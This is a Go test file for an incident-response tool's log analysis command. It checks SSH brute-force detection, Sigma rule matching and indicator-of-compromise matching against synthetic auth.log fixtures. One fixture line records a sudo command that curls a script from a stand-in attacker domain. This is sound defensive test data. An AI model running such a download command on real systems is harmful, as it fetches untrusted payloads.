package cli

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/testutil"
)

// bruteForceAuth is a brute force on sshd that succeeds.
func bruteForceAuth() string {
	var b strings.Builder
	for i := range 30 {
		fmt.Fprintf(&b, "Mar  1 09:%02d:%02d web1 sshd[%d]: Failed password for root from 203.0.113.9 port %d ssh2\n", i/6, (i*10)%60, 2000+i, 40000+i)
	}
	b.WriteString("Mar  1 09:06:00 web1 sshd[2100]: Accepted password for root from 203.0.113.9 port 41000 ssh2\n")
	return b.String()
}

func TestLogsCommand(t *testing.T) {
	root := testutil.RootFromString(t, minimalRoot+"-- var/log/auth.log --\n"+bruteForceAuth())
	r := vigil(t, "logs", "--root", root, "--no-store", "-f", "json")
	if r.code != ExitFindings {
		t.Fatalf("exit %d, want %d\n%s", r.code, ExitFindings, r.err)
	}
	res := decode[model.Result](t, r)
	rules := map[string]bool{}
	for _, f := range res.Findings {
		rules[f.RuleID] = true
	}
	for _, want := range []string{"logs.ssh.brute-force.source", "logs.ssh.login-after-failures", "logs.ssh.root-login", "logs.source.coverage"} {
		if !rules[want] {
			t.Errorf("%s missing: %v", want, rules)
		}
	}
	// A window that ends before the attack judges nothing.
	r = vigil(t, "logs", "/var/log/auth.log", "--root", root, "--no-store", "--until", "2000-01-01", "--min-severity", "low")
	if r.code != ExitOK || strings.Contains(r.out, "logs.ssh") {
		t.Errorf("--until: exit %d\n%s%s", r.code, r.out, r.err)
	}
	for _, bad := range [][]string{{"--allow-cidr", "10.0.0.300/8"}, {"--log-format", "nope"}, {"--brute-threshold", "0"}, {"--since", "soon"}} {
		if r := vigil(t, append([]string{"logs", "--root", root, "--no-store"}, bad...)...); r.code != ExitError {
			t.Errorf("%v: exit %d, want usage error", bad, r.code)
		}
	}
}

func TestLogsSigma(t *testing.T) {
	root := testutil.RootFromString(t, minimalRoot+"-- var/log/auth.log --\n"+bruteForceAuth())
	dir := t.TempDir()
	writeRule := func(name, body string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	writeRule("root-password.yml", "title: root password login\nid: test-1\nlogsource:\n  product: linux\n  service: sshd\ndetection:\n  sel:\n    Kind: ssh.login\n    User: root\n  condition: sel\nlevel: high\ntags:\n  - attack.t1078.003\n")
	writeRule("broken.yml", "title: [\n")
	r := vigil(t, "logs", "--root", root, "--no-store", "-f", "json", "--sigma", dir)
	res := decode[model.Result](t, r)
	var matched, gap bool
	for _, f := range res.Findings {
		if f.RuleID == "logs.sigma.match" && f.Subject == "root password login" && f.Severity == model.High && f.Technique == "T1078.003" {
			matched = true
		}
	}
	for _, g := range res.Gaps {
		if strings.HasSuffix(g.Path, "broken.yml") {
			gap = true
		}
	}
	if !matched || !gap {
		t.Errorf("sigma match %v, gap for the broken file %v\n%s", matched, gap, r.out)
	}
	if r := vigil(t, "logs", "--root", root, "--no-store", "--sigma", filepath.Join(dir, "none")); r.code != ExitError {
		t.Errorf("a missing --sigma directory: exit %d", r.code)
	}
}

func TestLogsIOC(t *testing.T) {
	root := testutil.RootFromString(t, minimalRoot+"-- var/log/auth.log --\n"+bruteForceAuth()+
		"Mar  1 09:09:00 web1 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://evil.example/x.sh\n")
	list := writeFile(t, "iocs.txt", "# test list\n203.0.113.9\nevil.example\n")
	r := vigil(t, "logs", "--root", root, "--no-store", "-f", "json", "--ioc", list)
	res := decode[model.Result](t, r)
	got := map[string]bool{}
	for _, f := range res.Findings {
		if f.RuleID == "logs.ioc.match" {
			got[f.Subject] = f.Evidence.Extra["ioc_list"] != "" && f.Evidence.Extra["ioc_line"] != ""
		}
	}
	if !got["ip 203.0.113.9"] || !got["domain evil.example"] {
		t.Errorf("ioc matches: %v\n%s", got, r.out)
	}
}
